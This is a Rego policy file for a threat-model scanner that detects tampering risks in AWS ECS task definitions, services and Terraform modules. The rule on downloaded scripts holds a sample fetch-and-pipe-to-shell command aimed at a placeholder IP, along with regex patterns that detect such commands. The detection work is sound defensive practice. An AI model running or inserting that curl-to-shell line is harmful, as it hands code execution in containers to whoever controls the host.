# METADATA
# title: The task definition's image, environment or command is modified
# description: >-
#   The task definition, and what the container can change at run time, decide what a task runs. An attacker can write
#   to the container's file system, open an ECS Exec session, or add another revision, script or module. The program is
#   then replaced while the deployment still looks unchanged.
# related_resources:
# - ref: https://docs.aws.amazon.com/AmazonECS/latest/developerguide/security-tasks-containers.html
#   description: Amazon ECS task and container security best practices
# custom:
#   origin: ecs-model
#   actors: [internal-attacker, privileged-attacker]
#   flow: "ECS Control Plane -> Task Definition (load)"
#   targets: [flow.load, flow.exec]
#   mitre: [T1525, T1610]
#   cwe: [CWE-494]
package stride.tampering.task_definition_tampering

import data.stride.lib
import data.stride.result

# METADATA
# title: Writable root file system
# description: >-
#   The container's root file system is writable. An attacker who runs code in the container can replace the program,
#   add tools and leave a backdoor that lives as long as the task.
# custom:
#   severity: medium
#   message: container {name} has a writable root file system, so an attacker can replace its program and install tools
#   whether: container {name} has a writable root file system
#   reads:
#     ecs.task_definition:
#       "containers[].readonly_root_filesystem": false
#       "runtime_platform.operating_system_family": LINUX
#   quiet:
#     ecs.task_definition:
#       runtime_platform.operating_system_family: WINDOWS_SERVER_2022_CORE
#   basis: control
#   remediation:
#     fix: Make the root file system read-only, and mount volumes where the program writes (ECS Exec does not work with a read-only root file system)
#     terraform: readonlyRootFilesystem = true
#     cloudformation: 'ReadonlyRootFilesystem: true'
#     task_definition: '"readonlyRootFilesystem": true'
#     cases:
#       cloudposse/ecs-container-definition:
#         fix: Make the root file system read-only, and mount volumes where the program writes (ECS Exec does not work with a read-only root file system)
#         terraform: readonly_root_filesystem = true
#       cloudposse/ecs-web-app:
#         fix: Give the module a container definition with a read-only root file system, and mount volumes where the program writes
#         terraform: container_definition = module.container.json_map_encoded
#       cn-terraform/ecs-fargate-task-definition: &named
#         fix: Make the root file system read-only, and mount volumes where the program writes
#         terraform: readonly_root_filesystem = true
#       cn-terraform/ecs-fargate: *named
#   edit:
#     unsafe: true
#     terraform: {readonlyRootFilesystem: true}
#     cloudformation: {ReadonlyRootFilesystem: true}
#     task_definition: {readonlyRootFilesystem: true}
#   peers: [CKV_AWS_336, ECS.5]
#   mitre: [T1105, T1554]
#   cwe: [CWE-732]
#   security_hub: [ECS.5]
writable_root_filesystem contains finding if {
	some task in lib.tasks
	not lib.windows(task)
	not lib.express(task)
	some i, container in task.values.containers
	object.get(container, "readonly_root_filesystem", false) == false
	finding := result.at(task, ["containers", i, "readonly_root_filesystem"])
}

# METADATA
# title: ECS Exec enabled
# description: >-
#   Anyone allowed to call ecs:ExecuteCommand gets a shell in the running container with the task role's credentials.
#   This bypasses every review of the image and the task definition.
# custom:
#   severity: medium
#   message: service {resource} has ECS Exec enabled, so anyone allowed to call ecs:ExecuteCommand can open a shell in its containers
#   whether: service {resource} has ECS Exec enabled
#   reads:
#     ecs.service:
#       enable_execute_command: true
#   subject: ecs.service
#   targets: [flow.exec]
#   remediation:
#     fix: Disable ECS Exec (enable it only during an investigation)
#     terraform: enable_execute_command = false
#     cloudformation: 'EnableExecuteCommand: false'
#     task_definition: '"enableExecuteCommand": false'
#   edit:
#     terraform: {enable_execute_command: false}
#     cloudformation: {EnableExecuteCommand: false}
#     task_definition: {enableExecuteCommand: false}
#   mitre: [T1651, T1609]
#   cwe: [CWE-489]
execute_command_enabled contains finding if {
	some service in lib.services
	service.values.enable_execute_command == true
	finding := result.at(service, ["enable_execute_command"])
}

# METADATA
# title: Container runs a downloaded script
# description: >-
#   At startup the container downloads a program and runs it. Anyone who controls that address, or is on the network
#   path to it, can run code in every new task. No image scan sees that code.
# custom:
#   severity: high
#   message: container {container} downloads a script and runs it, so anyone who controls that address decides what runs in the task
#   whether: container {container} downloads a script and runs it
#   reads:
#     ecs.task_definition:
#       "containers[].command[]": curl -s http://203.0.113.30/install.sh | sh
#       "containers[].entry_point[]": curl -s http://203.0.113.30/install.sh | sh
#   remediation:
#     fix: Add the program to the image at build time, and start it from there
#     terraform: command = ["/app/server"]
#     cloudformation: 'Command: [/app/server]'
#     task_definition: '"command": ["/app/server"]'
#   mitre: [T1059.004, T1105]
#   cwe: [CWE-494, CWE-829]
remote_script_execution contains finding if {
	some task in lib.tasks
	some i, container in task.values.containers
	some field in ["command", "entry_point"]
	text := lib.joined_lines(concat(" ", container[field]))
	fetches(text)
	runs_a_download(text)
	finding := result.at(task, ["containers", i, field])
}

# Plain words, looked for before patterns that are dear.
fetches(text) if regex.match(`curl|wget`, text)

# curl ... | sh: the interpreter reads its program from the pipe, so it is given no script, no module and no text of its own.
runs_a_download(text) if regex.match(`\b(curl|wget)\b([^;&|\n]|&[^&\n]|\|[^|\n])*\|\s*(sudo\s+(-\S+\s+)*)?(\S*/)?(env\s+)?(sh|bash|ash|dash|zsh|ksh|python[0-9.]*|perl|ruby|node|php)(\s*($|[;&|)"'>\n])|\s+[0-9]>|\s+--?[esuvx]*(\s|$))`, text)

# bash <(curl ...), sh -c "$(wget ...)": what is downloaded stands where the program is expected.
runs_a_download(text) if regex.match("(^|[\\s/;&|(])(sh|bash|ash|dash|zsh|ksh|python[0-9.]*|perl|ruby|node|eval|source|\\.)\\s+(-\\S+\\s+)*[\"']?(<\\(|\\$\\(|`)\\s*(curl|wget)\\b", text)

# wget http://host/x.sh && sh x.sh
runs_a_download(text) if {
	regex.match(`\b(curl|wget)\b`, text)
	some name in lib.saved_names(text)
	words := regex.find_n(`[;&|\n]+|[^\s;&|]+`, text, -1)
	some i, word in words
	i > 0
	endswith(trim(word, `"'()`), name)
	regex.match(`^[;&|\n]+$|^(\S*/)?(sh|bash|ash|dash|zsh|ksh|python[0-9.]*|perl|ruby|node|php|source|\.|exec)$`, trim(words[i - 1], `"'(`))
	lib.plain_name(trim(word, `"'()`), name)
}

# METADATA
# title: Service without a task revision
# description: >-
#   The service names the family of its task definition and no revision. Anyone who can register another revision
#   decides what the next deployment runs, without a reviewed change.
# custom:
#   severity: medium
#   message: service {resource} pins no task definition revision, so anyone who can register one decides what it runs next
#   unless: service {resource} pins the revision of its task definition
#   reads:
#     ecs.service:
#       task_definition: app
#   remediation:
#     fix: Pin the revision
#     terraform: task_definition = aws_ecs_task_definition.app.arn
#     cloudformation: 'TaskDefinition: !Ref TaskDefinition'
#     task_definition: '"taskDefinition": "app:42"'
#   mitre: [T1525, T1610]
#   cwe: [CWE-494]
unpinned_task_revision contains finding if {
	some service in lib.services
	unpinned(service, lib.get(service.values, ["task_definition"]))
	finding := result.at(service, ["task_definition"])
}

# A family or an ARN as text, without `:revision` at its end.
unpinned(service, name) if {
	is_string(name)
	not lib.reference(name)
	not reads_revision(service)
	# What is not known at its end may be the revision.
	not endswith(name, "}")
	not regex.match(`:([0-9]|\$\{unknown-[0-9a-f]{8}\})+$`, name)
}

reads_revision(service) if {
	some edge in lib.edges(service, ["task_definition"])
	edge.attribute == "revision"
}

# Terraform's attributes that leave the revision out; `id` is the family, and so is the name that both have from one variable.
unpinned(service, name) if {
	is_string(name)
	startswith(name, "${")
	some edge in lib.edges(service, ["task_definition"])
	edge.attribute in {"family", "id", "name", "arn_without_revision"}
	endswith(name, concat("", [".", edge.attribute, "}"]))
}

# METADATA
# title: Task definition changes ignored
# description: >-
#   Terraform is told to ignore changes to what the service runs. A task definition that is changed by hand, or that an
#   attacker replaces, stays in place through every later apply. A resource named for this purpose
#   (ignore_changes_task_definition) is intentional, and is not reported.
# custom:
#   severity: low
#   message: "{resource} ignores changes to what the task runs, so a task definition that is replaced by hand stays in place"
#   whether: "{resource} ignores changes to what the task runs"
#   reads:
#     ecs.service:
#       "lifecycle.ignore_changes[]": task_definition
#       deployment_controller.type: ECS
#     ecs.task_definition:
#       "lifecycle.ignore_changes[]": container_definitions
#   remediation:
#     fix: Remove the attribute from the list (or deploy through CodeDeploy or an external deployment controller)
#     terraform: |
#       lifecycle {
#         ignore_changes = [desired_count]
#       }
#   opt_in: true
#   mitre: [T1525, T1578]
#   cwe: [CWE-1038]
ignored_task_drift contains finding if {
	some service in lib.services
	not lib.effective(service, ["deployment_controller", "type"]) in {"CODE_DEPLOY", "EXTERNAL"}
	not named_for_drift(service)
	some attribute in service.lifecycle.ignore_changes
	attribute in {"task_definition", "all"}
	finding := result.at(service, ["lifecycle", "ignore_changes"])
}

ignored_task_drift contains finding if {
	some task in lib.tasks
	not named_for_drift(task)
	some attribute in task.lifecycle.ignore_changes
	attribute in {"container_definitions", "all"}
	finding := result.at(task, ["lifecycle", "ignore_changes"])
}

# A resource that is called after it is the variant that a caller chooses for a pipeline of its own.
named_for_drift(resource) if regex.match(`(^|[._])ignor(e|es|ed|ing)_([a-z_]+_)?(changes?|task_definitions?|drift)($|[._\[])`, lower(resource.id))

# METADATA
# title: Environment file that can be overwritten
# description: >-
#   The container reads its environment from an object in an unversioned bucket. Anyone who can write the object can
#   change the program's settings at its next start. The previous settings are lost.
# custom:
#   severity: medium
#   message: container {container} reads its environment from an unversioned bucket, so anyone who can write there can replace it for good
#   whether: container {container} reads its environment from an unversioned bucket
#   reads:
#     ecs.task_definition:
#       "containers[].environment_files[].value": null
#     s3.bucket:
#       versioning.status: Suspended
#       object_lock_enabled: false
#   remediation:
#     fix: Enable versioning for the bucket
#     terraform: |
#       resource "aws_s3_bucket_versioning" "settings" {
#         bucket = aws_s3_bucket.settings.id
#         versioning_configuration {
#           status = "Enabled"
#         }
#       }
#     cloudformation: 'VersioningConfiguration: {Status: Enabled}'
#   mitre: [T1565.001, T1525]
#   cwe: [CWE-494, CWE-353]
mutable_environment_file contains finding if {
	some task in lib.tasks
	some i, container in task.values.containers
	some j, _ in container.environment_files
	path := ["containers", i, "environment_files", j, "value"]
	some bucket in buckets_of(task, path)
	unversioned(bucket)
	finding := result.facts(task, path, {"related": [bucket.id]})
}

# The buckets of the unit that an object's ARN names, itself or through the object's resource.
buckets_of(task, path) := found if {
	direct := [target | some target in lib.targets(task, path); target.type == "s3.bucket"]
	through := [bucket |
		some object in lib.targets(task, path)
		object.type in {"aws_s3_object", "aws_s3_bucket_object"}
		some bucket in lib.targets(object, ["bucket"])
		bucket.type == "s3.bucket"
	]
	found := array.concat(direct, through)
}

unversioned(bucket) if {
	lib.present(bucket.values, ["versioning", "status"])
	bucket.values.versioning.status != "Enabled"
	not bucket.values.object_lock_enabled == true
}

# In Terraform versioning is a resource of its own.
unversioned(bucket) if {
	lib.missing(bucket.values, ["versioning", "status"])
	not bucket.values.object_lock_enabled == true
	lib.closed(bucket)
}

# METADATA
# title: Module not pinned to a version
# description: >-
#   `terraform init` fetches whatever the branch or the newest registry release holds at that time. Anyone who gets a
#   commit merged upstream changes the next deployment, without a review in this repository.
# custom:
#   severity: low
#   message: "{resource} is not pinned to a version, so the next deployment runs whatever was last published there"
#   unless: "{resource} is pinned to a version"
#   reads:
#     terraform.module:
#       kind: git
#       source: git::https://example.com/network.git
#       ref: main
#       version: ">= 1.0"
#   remediation:
#     fix: Pin the source to a tag or commit
#     terraform: source = "git::https://example.com/network.git?ref=v1.4.2"
#     cases:
#       registry:
#         fix: Constrain the version
#         terraform: version = "~> 1.4"
#   peers: [CKV_TF_2]
#   mitre: [T1195.001]
#   cwe: [CWE-829, CWE-494]
unpinned_module_source contains finding if {
	some module in lib.of_type("terraform.module")
	module.values.kind in fetched_from_git
	lib.missing(module.values, ["ref"])
	finding := result.at(module, ["source"])
}

unpinned_module_source contains finding if {
	some module in lib.of_type("terraform.module")
	module.values.kind in fetched_from_git
	regex.match(`^(main|master|develop|head|refs/heads/.+)$`, lower(module.values.ref))
	finding := result.at(module, ["ref"])
}

unpinned_module_source contains finding if {
	some module in lib.of_type("terraform.module")
	module.values.kind == "registry"
	any_version(module)
	finding := result.facts(module, ["version"], {"case": "registry"})
}

fetched_from_git := {"git", "github", "bitbucket"}

any_version(module) if lib.missing(module.values, ["version"])

# Constraints that all leave the newest release open; `~>`, `<`, `<=` and a plain version do not.
any_version(module) if regex.match(`^\s*(>=?|!=)\s*v?[0-9][^,]*(,\s*(>=?|!=)\s*v?[0-9][^,]*)*$`, lib.get(module.values, ["version"]))
